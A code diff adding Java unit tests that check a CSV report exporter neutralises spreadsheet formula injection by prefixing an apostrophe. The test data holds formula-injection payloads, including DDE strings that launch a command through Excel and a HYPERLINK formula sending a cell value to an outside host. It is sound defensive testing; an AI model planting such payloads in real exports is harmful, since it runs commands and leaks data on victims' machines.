@@ -3,6 +3,7 @@ package io.tracker.report;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import io.tracker.rules.Assessment;
+import io.tracker.rules.Light;
 import io.tracker.rules.RiskFlag;
 import io.tracker.rules.TargetResult;
 import io.tracker.rules.TaskResult;
@@ -14,6 +15,8 @@ import java.math.BigDecimal;
 import java.util.ArrayList;
 import java.util.List;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
 
 class AssessmentCsvTest {
   private static final TaskBook BOOK = LedgerFixture.book();
@@ -112,6 +115,50 @@ class AssessmentCsvTest {
     List<String> row = CsvRows.parse(csv.substring(1)).get(1);
     assertThat(row.get(4)).isEqualTo(text);
     assertThat(row.get(6)).isEqualTo("王永安、钱剑锋");
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @CsvSource(delimiter = '¦', quoteCharacter = '`', textBlock = """
+      =HYPERLINK("http://x/?"&A1,"点此")    ¦ '=HYPERLINK("http://x/?"&A1,"点此")
+      +cmd|' /C calc'!A0                  ¦ '+cmd|' /C calc'!A0
+      -2+3+cmd|' /C calc'!A0              ¦ '-2+3+cmd|' /C calc'!A0
+      @SUM(1+1)*cmd|' /C calc'!A0         ¦ '@SUM(1+1)*cmd|' /C calc'!A0
+      -5                                  ¦ -5
+      +1.5                                ¦ +1.5
+      -0.25                               ¦ -0.25
+      县财政局=A1                             ¦ 县财政局=A1
+      """)
+  void textsThatExcelWouldRunAreNeutralisedAndNumbersStayNumbers(String printed, String cell) throws IOException {
+    List<Task> tasks = new ArrayList<>(LedgerFixture.tasks());
+    Task first = tasks.get(0);
+    tasks.set(0, new Task(printed, first.section(), printed, LedgerFixture.units(printed), List.of(printed),
+        first.deadline(), List.of()));
+    TaskBook book = LedgerFixture.book(tasks);
+    Assessment base = LedgerFixture.assessment(LedgerFixture.book());
+    List<TaskResult> results = new ArrayList<>(base.tasks());
+    TaskResult one = results.get(0);
+    results.set(0, new TaskResult(printed, one.score(), one.light(),
+        List.of(LedgerFixture.flag(printed, 0, "LAGGING", Light.YELLOW, printed)), List.of()));
+    Assessment assessment = new Assessment(base.asOf(), results, base.units(), base.leaders(), base.total());
+
+    List<String> row = CsvRows.parse(csv(book, assessment).substring(1)).get(1);
+    assertThat(row.get(2)).as("序号").isEqualTo(cell);
+    assertThat(row.get(4)).as("任务").isEqualTo(cell);
+    assertThat(row.get(5)).as("牵头单位").isEqualTo(cell);
+    assertThat(row.get(6)).as("包抓领导").isEqualTo(cell);
+    assertThat(row.get(11)).as("预警").isEqualTo("[进度滞后] " + printed);
+  }
+
+  @Test
+  void aTabOrCarriageReturnFirstIsNeutralisedToo() throws IOException {
+    List<Task> tasks = new ArrayList<>(LedgerFixture.tasks());
+    Task first = tasks.get(0);
+    tasks.set(0, new Task(first.id(), first.section(), "\t=1+1", LedgerFixture.units("\r=1+1"), first.leaders(),
+        first.deadline(), List.of()));
+    TaskBook book = LedgerFixture.book(tasks);
+    List<String> row = CsvRows.parse(csv(book, LedgerFixture.assessment(book)).substring(1)).get(1);
+    assertThat(row.get(4)).isEqualTo("'\t=1+1");
+    assertThat(row.get(5)).isEqualTo("'\r=1+1");
   }
 
   private static String flags(List<RiskFlag> flags) {
